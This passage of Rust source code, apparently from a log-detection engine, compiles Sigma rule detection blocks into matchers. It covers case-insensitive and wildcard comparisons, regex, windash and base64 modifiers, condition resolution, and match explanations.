//! Compiling a Sigma `detection` block into matchers, and evaluating them on events.
//!
//! Semantics follow the Sigma specification:
//! - string comparisons are case-insensitive unless `|cased`;
//! - `*` and `?` are the only wildcards, `\` escapes them and itself;
//! - a field absent from the event makes its comparison false (so `not filter` is then true),
//!   except `field: null`, which matches exactly when the field is absent or null;
//! - numbers and booleans compare as values, not substrings;
//! - `|re` is an unanchored regular expression, case-sensitive unless `|re|i`;
//! - a list of values is an OR, or an AND with `|all`; a list of maps is an OR of ANDs;
//! - a list-valued field (Windows' unnamed `Data` elements, JSON arrays) matches a value when
//!   any of its elements does, so with `|all` each value may match a different element, and
//!   `|neq` holds when no element matches;
//! - keywords (a list of plain values) search the event's `message`, or every field of an
//!   event that has no message.

use regex::{Regex, RegexBuilder};
use serde_yaml_ng::Value as Yaml;
use vigil_parsers::{Event, Value};

use crate::condition::{Expr, Quantifier};

mod required;
mod requirements;
mod rewrite;

pub(crate) use requirements::{Clauses, Gate, Literal, MAX_CLAUSES, Seen};

/// Why a detection could not be compiled: a stable code and a message.
#[derive(Debug)]
pub(crate) struct CompileError {
    pub code: &'static str,
    pub message: String,
}

fn err(code: &'static str, message: impl Into<String>) -> CompileError {
    CompileError { code, message: message.into() }
}

/// How a literal compares with a value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Cmp {
    Exact,
    Contains,
    StartsWith,
    EndsWith,
}

#[derive(Clone, Copy, Debug)]
enum Order {
    Lt,
    Lte,
    Gt,
    Gte,
}

/// The part of a date that the time modifiers (`|hour`, ...) compare.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum TimePart {
    Minute,
    Hour,
    Day,
    Week,
    Month,
    Year,
}

impl TimePart {
    /// The part of a field's date: RFC 3339, or `YYYY-MM-DD HH:MM:SS[.fff]` (Sysmon's `UtcTime`).
    fn of(self, value: &Value) -> Option<Value> {
        use chrono::{Datelike, Timelike};
        let text = value.as_text();
        let text = text.trim();
        let t = chrono::DateTime::parse_from_rfc3339(text)
            .map(|t| t.naive_utc())
            .or_else(|_| chrono::NaiveDateTime::parse_from_str(text, "%Y-%m-%d %H:%M:%S%.f"))
            .ok()?;
        let n = match self {
            TimePart::Minute => t.minute(),
            TimePart::Hour => t.hour(),
            TimePart::Day => t.day(),
            TimePart::Week => t.iso_week().week(),
            TimePart::Month => t.month(),
            TimePart::Year => return Some(Value::Int(i64::from(t.year()))),
        };
        Some(Value::Int(i64::from(n)))
    }
}

#[derive(Clone, Debug)]
enum ValueMatcher {
    /// A literal without wildcards. Lowercased at compile time unless `cased`.
    Text {
        needle: String,
        cmp: Cmp,
        cased: bool,
    },
    /// Wildcards, or `|re`; the literals one of which every match contains, as the prefilter
    /// scans for them (for wildcards the longest literal part, lowercased; for `|re` what
    /// [`required::required_literals`] reads from the pattern).
    ///
    /// The third part is the same comparison without a regular expression, when there is one
    /// for ASCII text (`*word*` is `contains` of an ASCII `word`): what the rewrite pass uses.
    Regex(Regex, Option<Vec<String>>, Option<Plain>),
    /// The rewrite of a `Regex` with a plain form: the plain comparison on ASCII text, the
    /// regular expression on other text (whose case folding the plain one does not copy).
    /// Only the compiled matcher has these.
    AsciiText {
        plain: Plain,
        re: Regex,
    },
    Number(f64),
    Bool(bool),
    /// `null`: the field is absent or null.
    Null,
    Exists(bool),
    Compare(Order, f64),
    /// `|cidr`: the value is an address in the network.
    Cidr(ipnet::IpNet),
    /// `|fieldref`: the value compares with another field of the same event.
    FieldRef {
        field: String,
        cmp: Cmp,
        cased: bool,
    },
    /// `|neq`: the value is present and does not match.
    Not(Box<ValueMatcher>),
    /// A time modifier: the matcher applies to that part of the value's date.
    Time(TimePart, Box<ValueMatcher>),
    /// The variants of one value (`|windash`, `|base64offset`): any of them.
    Any(Vec<ValueMatcher>),
}

impl ValueMatcher {
    fn matches(&self, value: &Value, event: &Event) -> bool {
        if let Value::List(items) = value {
            return match self {
                // `neq`: the field holds no element that matches.
                ValueMatcher::Not(m) => !m.matches(value, event),
                // Any element (so with `|all`, each value may match another element).
                m => items.iter().any(|item| m.matches(item, event)),
            };
        }
        match self {
            ValueMatcher::Text { needle, cmp, cased } => {
                if value.is_null() {
                    return false;
                }
                let text = value.as_text();
                if *cased { compare(&text, needle, *cmp) } else { compare_ci(&text, needle, *cmp) }
            }
            ValueMatcher::Regex(re, ..) => !value.is_null() && re.is_match(&value.as_text()),
            ValueMatcher::AsciiText { plain, re } => {
                if value.is_null() {
                    return false;
                }
                let text = value.as_text();
                match text.is_ascii() {
                    true if plain.cased => compare(&text, &plain.needle, plain.cmp),
                    true => compare_ci(&text, &plain.needle, plain.cmp),
                    false => re.is_match(&text),
                }
            }
            ValueMatcher::Number(n) => value.as_f64() == Some(*n),
            ValueMatcher::Bool(b) => match value {
                Value::Bool(v) => v == b,
                Value::Str(s) => s.eq_ignore_ascii_case(if *b { "true" } else { "false" }),
                _ => false,
            },
            ValueMatcher::Null => value.is_null(),
            // Presence is decided by the caller, which sees absent fields.
            ValueMatcher::Exists(want) => *want,
            ValueMatcher::Compare(order, n) => value.as_f64().is_some_and(|v| match order {
                Order::Lt => v < *n,
                Order::Lte => v <= *n,
                Order::Gt => v > *n,
                Order::Gte => v >= *n,
            }),
            ValueMatcher::Cidr(net) => {
                value.as_text().trim().parse::<std::net::IpAddr>().is_ok_and(|ip| net.contains(&ip))
            }
            ValueMatcher::FieldRef { field, cmp, cased } => match event.field(field) {
                // Both fields present and not null; compared as text.
                Some(other) if !value.is_null() && !other.is_null() => {
                    let (hay, needle) = (value.as_text(), other.as_text());
                    if *cased { compare(&hay, &needle, *cmp) } else { compare_ci(&hay, &needle.to_lowercase(), *cmp) }
                }
                _ => false,
            },
            ValueMatcher::Not(m) => !m.matches(value, event),
            ValueMatcher::Time(part, m) => part.of(value).is_some_and(|v| m.matches(&v, event)),
            ValueMatcher::Any(ms) => ms.iter().any(|m| m.matches(value, event)),
        }
    }

    /// Literals one of which occurs (case-insensitively) in every value this matches; `None`
    /// when there is no such set.
    fn literals(&self) -> Option<Vec<String>> {
        match self {
            ValueMatcher::Text { needle, cased: false, .. } if !needle.is_empty() => Some(vec![needle.clone()]),
            ValueMatcher::Regex(_, Some(literals), _) => Some(literals.clone()),
            ValueMatcher::Any(ms) => {
                let mut all = Vec::new();
                for m in ms {
                    all.extend(m.literals()?);
                }
                Some(all)
            }
            _ => None,
        }
    }

    /// The result when the field is absent from the event.
    fn matches_absent(&self) -> bool {
        match self {
            ValueMatcher::Null => true,
            ValueMatcher::Exists(want) => !*want,
            ValueMatcher::Any(ms) => ms.iter().any(ValueMatcher::matches_absent),
            // An absent field makes every comparison false, `neq` included.
            _ => false,
        }
    }
}

fn compare(hay: &str, needle: &str, cmp: Cmp) -> bool {
    match cmp {
        Cmp::Exact => hay == needle,
        Cmp::Contains => hay.contains(needle),
        Cmp::StartsWith => hay.starts_with(needle),
        Cmp::EndsWith => hay.ends_with(needle),
    }
}

/// Case-insensitive comparison; `needle` is already lowercase.
fn compare_ci(hay: &str, needle: &str, cmp: Cmp) -> bool {
    if hay.is_ascii() {
        let (h, n) = (hay.as_bytes(), needle.as_bytes());
        match cmp {
            Cmp::Exact => h.eq_ignore_ascii_case(n),
            Cmp::StartsWith => h.len() >= n.len() && h[..n.len()].eq_ignore_ascii_case(n),
            Cmp::EndsWith => h.len() >= n.len() && h[h.len() - n.len()..].eq_ignore_ascii_case(n),
            Cmp::Contains => contains_ascii_ci(h, n),
        }
    } else {
        compare(&hay.to_lowercase(), needle, cmp)
    }
}

/// Whether `hay` contains `needle` (lowercase), ASCII-case-insensitively: candidates found
/// with memchr on the needle's first byte in both cases.
fn contains_ascii_ci(hay: &[u8], needle: &[u8]) -> bool {
    let Some((&first, rest)) = needle.split_first() else { return true };
    if hay.len() < needle.len() {
        return false;
    }
    let last_start = hay.len() - needle.len();
    let mut from = 0;
    while from <= last_start {
        let window = &hay[from..=last_start];
        let Some(at) = memchr::memchr2(first, first.to_ascii_uppercase(), window) else { return false };
        let start = from + at;
        if hay[start + 1..start + needle.len()].eq_ignore_ascii_case(rest) {
            return true;
        }
        from = start + 1;
    }
    false
}

/// One `field|modifiers: values` item, or a keyword list (`field: None`).
#[derive(Debug)]
struct Item {
    field: Option<String>,
    values: Vec<ValueMatcher>,
    all: bool,
    /// The item as the rule writes it (`Image|endswith`, or `keywords`), and each value as
    /// written, for explanations.
    key: String,
    shown: Vec<String>,
}

fn shown(v: &Yaml) -> String {
    match v {
        Yaml::String(s) => format!("'{s}'"),
        Yaml::Null => "null".into(),
        Yaml::Bool(b) => b.to_string(),
        Yaml::Number(n) => n.to_string(),
        other => format!("{other:?}"),
    }
}

/// Shortens a value for an explanation.
fn clip(s: &str) -> String {
    const MAX: usize = 120;
    if s.chars().count() <= MAX {
        format!("'{s}'")
    } else {
        format!("'{}...'", s.chars().take(MAX).collect::<String>())
    }
}

/// Whether an item (its field, values and `all`) matches `event`. `any`: the rewrite of its
/// `contains` values as one automaton, which then stands for the whole value list (the
/// compiled matcher; the reference interpreter passes `None`).
fn item_matches(
    field: Option<&str>,
    values: &[ValueMatcher],
    all: bool,
    any: Option<&rewrite::ContainsAny>,
    event: &Event,
) -> bool {
    let combine = |f: &dyn Fn(&ValueMatcher) -> bool| if all { values.iter().all(f) } else { values.iter().any(f) };
    // One value of the event against the value list.
    let one = |v: &Value| match any {
        Some(any) => any.matches(values, v, event),
        None => combine(&|m| match m {
            ValueMatcher::Exists(want) => *want,
            m => m.matches(v, event),
        }),
    };
    match field {
        Some(name) => match event.field(name) {
            Some(v) => one(v),
            None => combine(&ValueMatcher::matches_absent),
        },
        None => match event.field("message").filter(|m| !m.as_text().is_empty()) {
            Some(m) => one(m),
            // No message: each keyword may be found in any value.
            None if any.is_some() => event.fields.values().any(&one),
            None => combine(&|vm| event.fields.values().any(|v| vm.matches(v, event))),
        },
    }
}

impl Item {
    /// The reference semantics: every value compared one by one.
    fn matches(&self, event: &Event) -> bool {
        item_matches(self.field.as_deref(), &self.values, self.all, None, event)
    }

    /// Whether the item matches, and why, in a sentence.
    fn explain(&self, event: &Event) -> (bool, String) {
        let matched = self.matches(event);
        let hit = |v: &Value| -> Option<&str> {
            self.values.iter().zip(&self.shown).find(|(m, _)| m.matches(v, event)).map(|(_, s)| s.as_str())
        };
        let values = self.shown.join(", ");
        let why = match &self.field {
            Some(name) => match event.field(name) {
                None => format!("`{}`: the event has no field `{name}`", self.key),
                Some(v) if matched && !self.all => {
                    format!("`{}`: {} matches {}", self.key, clip(&v.as_text()), hit(v).unwrap_or("the value"))
                }
                Some(v) if matched => format!("`{}`: {} matches all of {values}", self.key, clip(&v.as_text())),
                Some(v) if self.all => format!("`{}`: {} does not match all of {values}", self.key, clip(&v.as_text())),
                Some(v) => format!("`{}`: {} matches none of {values}", self.key, clip(&v.as_text())),
            },
            None => {
                let verb = if matched { "found" } else { "not found" };
                let quantifier = if self.all { "all of" } else { "any of" };
                format!("keywords: {quantifier} {values} {verb} in the message")
            }
        };
        (matched, why)
    }
}

/// A search identifier: an OR of alternatives, each an AND of items.
#[derive(Debug)]
pub(crate) struct Search {
    name: String,
    alternatives: Vec<Vec<Item>>,
}

impl Search {
    fn matches(&self, event: &Event) -> bool {
        self.alternatives.iter().any(|items| items.iter().all(|i| i.matches(event)))
    }
}

/// A condition with its identifiers resolved to search indexes.
#[derive(Clone, Debug)]
pub(crate) enum Cond {
    Search(usize),
    Not(Box<Cond>),
    And(Vec<Cond>),
    Or(Vec<Cond>),
}

/// A compiled `detection` block.
#[derive(Debug)]
pub(crate) struct Detection {
    searches: Vec<Search>,
    condition: Cond,
    /// What the rewrite pass made of it: what the compiled matcher runs. Made on the rule's
    /// first evaluation, not at load: a replay of Sysmon process creations evaluates the
    /// process creation rules alone, and building the automata of the other 2,500 SigmaHQ
    /// rules was a seventh of its time (BENCHMARKS.md). The rewrite cannot fail, so nothing
    /// a load would report is put off; [`Detection::prepare`] makes it now.
    compiled: std::sync::OnceLock<rewrite::Compiled>,
}

impl Detection {
    /// The reference interpreter: the detection as written, no rewrites.
    pub(crate) fn matches(&self, event: &Event) -> bool {
        self.eval(&self.condition, event)
    }

    /// The compiled matcher: the same result as [`Detection::matches`], with the rewrites
    /// (`contains` lists as one automaton) applied.
    pub(crate) fn matches_compiled(&self, event: &Event) -> bool {
        self.compiled().matches(event)
    }

    fn compiled(&self) -> &rewrite::Compiled {
        self.compiled.get_or_init(|| rewrite::compile(&self.searches, &self.condition))
    }

    /// Runs the rewrite pass now rather than on the first evaluation (`serve`, whose first
    /// events should not wait for it).
    pub(crate) fn prepare(&self) {
        self.compiled();
    }

    /// Why the detection matches an event or not: each search identifier the condition uses,
    /// with the items of its first matching alternative (or of every alternative, on a miss),
    /// and the condition's result.
    pub(crate) fn explain(&self, event: &Event) -> Vec<String> {
        let mut out = Vec::new();
        for search in &self.searches {
            let matched = search.matches(event);
            out.push(format!("{} `{}`", if matched { "matched:" } else { "no match:" }, search.name));
            for (n, items) in search.alternatives.iter().enumerate() {
                let results: Vec<(bool, String)> = items.iter().map(|i| i.explain(event)).collect();
                let alt_matched = results.iter().all(|(m, _)| *m);
                if matched && !alt_matched {
                    continue;
                }
                if search.alternatives.len() > 1 {
                    out.push(format!("  alternative {}:", n + 1));
                }
                for (m, why) in results {
                    out.push(format!("  {} {why}", if m { "+" } else { "-" }));
                }
                if matched {
                    break;
                }
            }
        }
        out
    }

    fn eval(&self, cond: &Cond, event: &Event) -> bool {
        match cond {
            Cond::Search(i) => self.searches[*i].matches(event),
            Cond::Not(c) => !self.eval(c, event),
            Cond::And(cs) => cs.iter().all(|c| self.eval(c, event)),
            Cond::Or(cs) => cs.iter().any(|c| self.eval(c, event)),
        }
    }
}

/// Values for `%name%` placeholders (`|expand`), by name.
pub type Placeholders = std::collections::HashMap<String, Vec<String>>;

/// What compiling a detection needs besides the detection: placeholder values, and where to
/// note the placeholders that had none.
pub(crate) struct Ctx<'a> {
    pub placeholders: &'a Placeholders,
    pub missing: std::cell::RefCell<std::collections::BTreeSet<String>>,
}

impl<'a> Ctx<'a> {
    pub(crate) fn new(placeholders: &'a Placeholders) -> Self {
        Ctx { placeholders, missing: Default::default() }
    }
}

pub(crate) fn compile(detection: &serde_yaml_ng::Mapping, placeholders: &Ctx<'_>) -> Result<Detection, CompileError> {
    let mut searches = Vec::new();
    let mut conditions = Vec::new();
    for (key, value) in detection {
        let Some(name) = key.as_str() else {
            return Err(err("bad_detection", format!("detection key {key:?} is not a string")));
        };
        match name {
            "condition" => match value {
                Yaml::String(s) => conditions.push(s.clone()),
                Yaml::Sequence(seq) => {
                    for c in seq {
                        let Some(s) = c.as_str() else {
                            return Err(err("bad_condition", "condition list holds a non-string"));
                        };
                        conditions.push(s.to_owned());
                    }
                }
                _ => return Err(err("bad_condition", "condition must be a string")),
            },
            "timeframe" => {
                return Err(err(
                    "legacy_syntax",
                    "`timeframe` in a detection is the deprecated Sigma v1 aggregation; write a correlation rule",
                ));
            }
            _ => searches.push(compile_search(name, value, placeholders)?),
        }
    }
    if conditions.is_empty() {
        return Err(err("missing_field", "detection has no condition"));
    }
    let mut resolved = Vec::new();
    for c in &conditions {
        let expr = crate::condition::parse(c).map_err(|m| err("bad_condition", m))?;
        resolved.push(resolve(&expr, &searches)?);
    }
    let condition = if resolved.len() == 1 { resolved.remove(0) } else { Cond::Or(resolved) };
    Ok(Detection { searches, condition, compiled: std::sync::OnceLock::new() })
}

fn resolve(expr: &Expr, searches: &[Search]) -> Result<Cond, CompileError> {
    Ok(match expr {
        Expr::Ident(name) => match searches.iter().position(|s| &s.name == name) {
            Some(i) => Cond::Search(i),
            None => {
                return Err(err(
                    "unknown_identifier",
                    format!("condition names `{name}`, which the detection does not define"),
                ));
            }
        },
        Expr::Of(q, pattern) => {
            let them = pattern == "*";
            let hits: Vec<Cond> = searches
                .iter()
                .enumerate()
                .filter(|(_, s)| if them { !s.name.starts_with('_') } else { glob(pattern, &s.name) })
                .map(|(i, _)| Cond::Search(i))
                .collect();
            if hits.is_empty() {
                return Err(err("unknown_identifier", format!("`of {pattern}` matches no search identifier")));
            }
            match q {
                Quantifier::Any => Cond::Or(hits),
                Quantifier::All => Cond::And(hits),
            }
        }
        Expr::Not(e) => Cond::Not(Box::new(resolve(e, searches)?)),
        Expr::And(es) => Cond::And(es.iter().map(|e| resolve(e, searches)).collect::<Result<_, _>>()?),
        Expr::Or(es) => Cond::Or(es.iter().map(|e| resolve(e, searches)).collect::<Result<_, _>>()?),
    })
}

/// Identifier patterns in `1 of sel_*`: `*` matches any run of characters.
fn glob(pattern: &str, name: &str) -> bool {
    match pattern.split_once('*') {
        None => pattern == name,
        Some((head, tail)) => {
            let Some(rest) = name.strip_prefix(head) else { return false };
            if tail.is_empty() {
                return true;
            }
            (0..=rest.len()).filter(|&i| rest.is_char_boundary(i)).any(|i| glob(tail, &rest[i..]))
        }
    }
}

fn compile_search(name: &str, value: &Yaml, placeholders: &Ctx<'_>) -> Result<Search, CompileError> {
    let alternatives = match value {
        Yaml::Mapping(map) => vec![compile_map(map, placeholders)?],
        Yaml::Sequence(seq) if seq.iter().all(|v| matches!(v, Yaml::Mapping(_))) && !seq.is_empty() => {
            seq.iter().filter_map(|v| v.as_mapping()).map(|m| compile_map(m, placeholders)).collect::<Result<_, _>>()?
        }
        Yaml::Sequence(seq) => vec![vec![keywords(seq)?]],
        Yaml::String(_) | Yaml::Number(_) => vec![vec![keywords(std::slice::from_ref(value))?]],
        _ => {
            return Err(err(
                "bad_detection",
                format!("search identifier `{name}` is neither a map, a list nor a value"),
            ));
        }
    };
    Ok(Search { name: name.to_owned(), alternatives })
}

fn keywords(values: &[Yaml]) -> Result<Item, CompileError> {
    let mut matchers = Vec::new();
    for v in values {
        let text = match v {
            Yaml::String(s) => s.clone(),
            Yaml::Number(n) => n.to_string(),
            Yaml::Bool(b) => b.to_string(),
            _ => return Err(err("bad_detection", "a keyword list may only hold plain values")),
        };
        matchers.push(text_matcher(&text, Cmp::Contains, false)?);
    }
    let shown = values.iter().map(shown).collect();
    Ok(Item { field: None, values: matchers, all: false, key: "keywords".into(), shown })
}

fn compile_map(map: &serde_yaml_ng::Mapping, placeholders: &Ctx<'_>) -> Result<Vec<Item>, CompileError> {
    let mut items = Vec::new();
    for (key, value) in map {
        let Some(key) = key.as_str() else {
            return Err(err("bad_detection", format!("field name {key:?} is not a string")));
        };
        items.push(compile_item(key, value, placeholders)?);
    }
    if items.is_empty() {
        return Err(err("bad_detection", "empty selection"));
    }
    Ok(items)
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Utf16 {
    Le,
    Be,
    /// Little-endian after a byte order mark.
    Bom,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Base64 {
    Plain,
    Offset,
}

#[derive(Default)]
struct Modifiers {
    cmp: Option<Cmp>,
    all: bool,
    cased: bool,
    re: bool,
    re_flags: (bool, bool, bool),
    exists: bool,
    windash: bool,
    order: Option<Order>,
    utf16: Option<Utf16>,
    base64: Option<Base64>,
    cidr: bool,
    fieldref: bool,
    expand: bool,
    neq: bool,
    time: Option<TimePart>,
}

fn compile_item(key: &str, value: &Yaml, placeholders: &Ctx<'_>) -> Result<Item, CompileError> {
    let mut parts = key.split('|');
    let field = parts.next().unwrap_or_default();
    let mut m = Modifiers::default();
    for modifier in parts {
        match modifier {
            "contains" => m.cmp = Some(Cmp::Contains),
            "startswith" => m.cmp = Some(Cmp::StartsWith),
            "endswith" => m.cmp = Some(Cmp::EndsWith),
            "all" => m.all = true,
            "cased" => m.cased = true,
            "re" => m.re = true,
            "i" if m.re => m.re_flags.0 = true,
            "m" if m.re => m.re_flags.1 = true,
            "s" if m.re => m.re_flags.2 = true,
            "exists" => m.exists = true,
            "windash" => m.windash = true,
            "lt" => m.order = Some(Order::Lt),
            "lte" => m.order = Some(Order::Lte),
            "gt" => m.order = Some(Order::Gt),
            "gte" => m.order = Some(Order::Gte),
            "base64" => m.base64 = Some(Base64::Plain),
            "base64offset" => m.base64 = Some(Base64::Offset),
            "utf16le" | "wide" => m.utf16 = Some(Utf16::Le),
            "utf16be" => m.utf16 = Some(Utf16::Be),
            "utf16" => m.utf16 = Some(Utf16::Bom),
            "cidr" => m.cidr = true,
            "fieldref" => m.fieldref = true,
            "expand" => m.expand = true,
            "neq" => m.neq = true,
            "minute" => m.time = Some(TimePart::Minute),
            "hour" => m.time = Some(TimePart::Hour),
            "day" => m.time = Some(TimePart::Day),
            "week" => m.time = Some(TimePart::Week),
            "month" => m.time = Some(TimePart::Month),
            "year" => m.time = Some(TimePart::Year),
            other => return Err(err("unknown_modifier", format!("unknown modifier `{other}` in `{key}`"))),
        }
    }
    let values: Vec<&Yaml> = match value {
        Yaml::Sequence(seq) => seq.iter().collect(),
        v => vec![v],
    };
    if field.is_empty() {
        // `'|all': [...]`: keywords that must all appear.
        let owned: Vec<Yaml> = values.into_iter().cloned().collect();
        let mut item = keywords(&owned)?;
        item.all = m.all;
        return Ok(item);
    }
    if m.utf16.is_some() && m.base64.is_none() {
        return Err(err(
            "bad_modifier",
            format!("`{key}`: a UTF-16 modifier gives bytes, not text: follow it with `base64` or `base64offset`"),
        ));
    }
    let mut matchers = Vec::new();
    let mut shown_values = Vec::new();
    for v in values {
        if m.expand {
            for v in expand(v, placeholders)? {
                matchers.push(value_matcher(&v, &m, key)?);
                shown_values.push(shown(&v));
            }
        } else {
            matchers.push(value_matcher(v, &m, key)?);
            shown_values.push(shown(v));
        }
    }
    // `neq` with a list: the value differs from every one of them.
    let all = m.all || m.neq;
    Ok(Item { field: Some(field.to_owned()), values: matchers, all, key: key.to_owned(), shown: shown_values })
}

/// `%name%` placeholders replaced by their values (a placeholder with several values gives a
/// value for each). A placeholder without values gives no value, so the item matches nothing;
/// it is noted in `ctx.missing` and reported as a warning.
fn expand(v: &Yaml, ctx: &Ctx<'_>) -> Result<Vec<Yaml>, CompileError> {
    let Some(text) = v.as_str() else { return Ok(vec![v.clone()]) };
    let mut out = vec![String::new()];
    let mut rest = text;
    while let Some(start) = rest.find('%') {
        let Some(len) = rest[start + 1..].find('%') else { break };
        let name = &rest[start + 1..start + 1 + len];
        let Some(values) = ctx.placeholders.get(name) else {
            ctx.missing.borrow_mut().insert(name.to_owned());
            return Ok(Vec::new());
        };
        let prefix = &rest[..start];
        out = out.iter().flat_map(|o| values.iter().map(move |v| format!("{o}{prefix}{v}"))).collect();
        rest = &rest[start + len + 2..];
    }
    Ok(out.into_iter().map(|o| Yaml::String(format!("{o}{rest}"))).collect())
}

/// One value's matcher, wrapped for `neq` and the time modifiers.
fn value_matcher(v: &Yaml, m: &Modifiers, key: &str) -> Result<ValueMatcher, CompileError> {
    let mut found = Vec::new();
    value_matchers(v, m, key, &mut found)?;
    let mut matcher = if found.len() == 1 { found.remove(0) } else { ValueMatcher::Any(found) };
    if let Some(part) = m.time {
        matcher = ValueMatcher::Time(part, Box::new(matcher));
    }
    if m.neq {
        matcher = ValueMatcher::Not(Box::new(matcher));
    }
    Ok(matcher)
}

/// The text a value becomes under the encoding modifiers: one string, or three for
/// `base64offset`.
fn encode(text: &str, m: &Modifiers) -> Vec<String> {
    use base64::Engine as _;
    let bytes: Vec<u8> = match m.utf16 {
        None => text.as_bytes().to_vec(),
        Some(Utf16::Le) => text.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        Some(Utf16::Be) => text.encode_utf16().flat_map(u16::to_be_bytes).collect(),
        Some(Utf16::Bom) => [0xFF, 0xFE].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect(),
    };
    let b64 = base64::engine::general_purpose::STANDARD;
    match m.base64 {
        None => vec![text.to_owned()],
        Some(Base64::Plain) => vec![b64.encode(&bytes)],
        // The value at each of the three offsets in a longer base64 string: the characters
        // that depend only on the value (pySigma's `base64offset`).
        Some(Base64::Offset) => (0..3)
            .map(|shift| {
                let mut shifted = vec![b' '; shift];
                shifted.extend_from_slice(&bytes);
                let encoded = b64.encode(&shifted);
                let start = [0, 2, 3][shift];
                let end_cut = [0, 3, 2][(bytes.len() + shift) % 3];
                encoded.get(start..encoded.len().saturating_sub(end_cut)).unwrap_or_default().to_owned()
            })
            .collect(),
    }
}

/// A literal for [`text_matcher`]: its wildcard characters escaped.
fn literal(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if matches!(c, '*' | '?' | '\\') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

fn value_matchers(v: &Yaml, m: &Modifiers, key: &str, out: &mut Vec<ValueMatcher>) -> Result<(), CompileError> {
    if m.fieldref {
        let Some(field) = v.as_str() else {
            return Err(err("bad_value", format!("`{key}` needs a field name")));
        };
        out.push(ValueMatcher::FieldRef { field: field.to_owned(), cmp: m.cmp.unwrap_or(Cmp::Exact), cased: m.cased });
        return Ok(());
    }
    if m.cidr {
        let text = match v {
            Yaml::String(s) => s.trim().to_owned(),
            _ => return Err(err("bad_value", format!("`{key}` needs a network such as 10.0.0.0/8"))),
        };
        let net = text
            .parse::<ipnet::IpNet>()
            .or_else(|_| text.parse::<std::net::IpAddr>().map(ipnet::IpNet::from))
            .map_err(|_| err("bad_value", format!("`{key}`: {text:?} is not a CIDR network")))?;
        out.push(ValueMatcher::Cidr(net.trunc()));
        return Ok(());
    }
    if m.exists {
        let Some(b) = v.as_bool() else {
            return Err(err("bad_value", format!("`{key}` needs true or false")));
        };
        out.push(ValueMatcher::Exists(b));
        return Ok(());
    }
    if let Some(order) = m.order {
        let Some(n) = v.as_f64() else {
            return Err(err("bad_value", format!("`{key}` needs a number")));
        };
        out.push(ValueMatcher::Compare(order, n));
        return Ok(());
    }
    let text = match v {
        Yaml::Null => {
            out.push(ValueMatcher::Null);
            return Ok(());
        }
        Yaml::Bool(b) if m.cmp.is_none() && !m.re => {
            out.push(ValueMatcher::Bool(*b));
            return Ok(());
        }
        Yaml::Number(n) if m.cmp.is_none() && !m.re && !m.windash => {
            match n.as_f64() {
                Some(f) => out.push(ValueMatcher::Number(f)),
                None => return Err(err("bad_value", format!("`{key}`: number {n} out of range"))),
            }
            return Ok(());
        }
        Yaml::String(s) => s.clone(),
        Yaml::Number(n) => n.to_string(),
        Yaml::Bool(b) => b.to_string(),
        _ => {
            return Err(err(
                "bad_value",
                format!("`{key}` holds a value that is not a string, number, boolean or null"),
            ));
        }
    };
    if m.re {
        let (i, multi, dot) = m.re_flags;
        let re = RegexBuilder::new(&text)
            .case_insensitive(i)
            .multi_line(multi)
            .dot_matches_new_line(dot)
            .size_limit(1 << 22)
            .build()
            .map_err(|e| err("bad_regex", format!("`{key}`: {e}")))?;
        let literals = required::required_literals(&text, m.re_flags);
        out.push(ValueMatcher::Regex(re, literals, plain_regex(&text, m.re_flags)));
        return Ok(());
    }
    let cmp = m.cmp.unwrap_or(Cmp::Exact);
    let variants: Vec<String> = if m.windash {
        windash_variants(&text).ok_or_else(|| {
            err(
                "bad_value",
                format!("`{key}`: {text:?} has more than {WINDASH_MAX} option dashes for `windash` to vary"),
            )
        })?
    } else {
        vec![text]
    };
    for variant in variants {
        if m.base64.is_some() {
            // Encoded text is literal: the value's wildcards cannot survive the encoding.
            for encoded in encode(&variant, m) {
                out.push(text_matcher(&literal(&encoded), cmp, m.cased)?);
            }
        } else {
            out.push(text_matcher(&variant, cmp, m.cased)?);
        }
    }
    Ok(())
}

/// The characters `|windash` makes interchangeable: `-`, `/`, the en dash, the em dash and the
/// horizontal bar.
pub(crate) const WINDASHES: [char; 5] = ['-', '/', '\u{2013}', '\u{2014}', '\u{2015}'];

/// The most option dashes one `|windash` value may have (SigmaHQ's have at most 2).
const WINDASH_MAX: usize = 5;

/// Whether `c` is a word character as Python's `\w` (Unicode) sees it.
fn is_word(c: char) -> bool {
    c.is_alphanumeric() || c == '_'
}

/// `|windash`: every variant of `text` in which each dash that starts an option is any of
/// [`WINDASHES`]. As pySigma (`\B[-/]\b`), a dash starts an option when it is not preceded by
/// a word character and is followed by one (` -accepteula`, `'/format:'`, `*/c`, also the `/`
/// of `C:/x`), so a `-` or `/` inside a word (`x-y`, `dir/sub`), alone or before a space (`-`,
/// ` - `) stays as written; unlike pySigma, a rule written with one of the Unicode dashes is
/// expanded too, so the variants are the same whichever of the five the rule writes. `None` past [`WINDASH_MAX`] option dashes (5^n
/// variants).
pub(crate) fn windash_variants(text: &str) -> Option<Vec<String>> {
    let chars: Vec<char> = text.chars().collect();
    let starts: Vec<usize> = (0..chars.len())
        .filter(|&i| {
            WINDASHES.contains(&chars[i])
                && (i == 0 || !is_word(chars[i - 1]))
                && chars.get(i + 1).is_some_and(|&c| is_word(c))
        })
        .collect();
    if starts.len() > WINDASH_MAX {
        return None;
    }
    let mut variants = vec![chars];
    for &at in &starts {
        variants = variants
            .into_iter()
            .flat_map(|v| {
                WINDASHES.iter().map(move |&d| {
                    let mut v = v.clone();
                    v[at] = d;
                    v
                })
            })
            .collect();
    }
    Some(variants.into_iter().map(|v| v.into_iter().collect()).collect())
}

/// A comparison without wildcards: `needle` (lowercase unless `cased`) compared by `cmp`.
#[derive(Clone, Debug)]
struct Plain {
    needle: String,
    cmp: Cmp,
    cased: bool,
}

/// The plain form of a wildcard pattern whose only wildcards are `*` at its ends (`*word*`,
/// `word*`, `*word` under any of the comparisons), when the literal is ASCII: on ASCII text
/// it compares exactly as the regular expression does.
fn plain_wildcards(tokens: &[Token], cmp: Cmp, cased: bool) -> Option<Plain> {
    let lead = matches!(tokens.first(), Some(Token::Star));
    let trail = tokens.len() > 1 && matches!(tokens.last(), Some(Token::Star));
    let middle = &tokens[usize::from(lead)..tokens.len() - usize::from(trail)];
    let [Token::Lit(literal)] = middle else { return None };
    if !literal.is_ascii() {
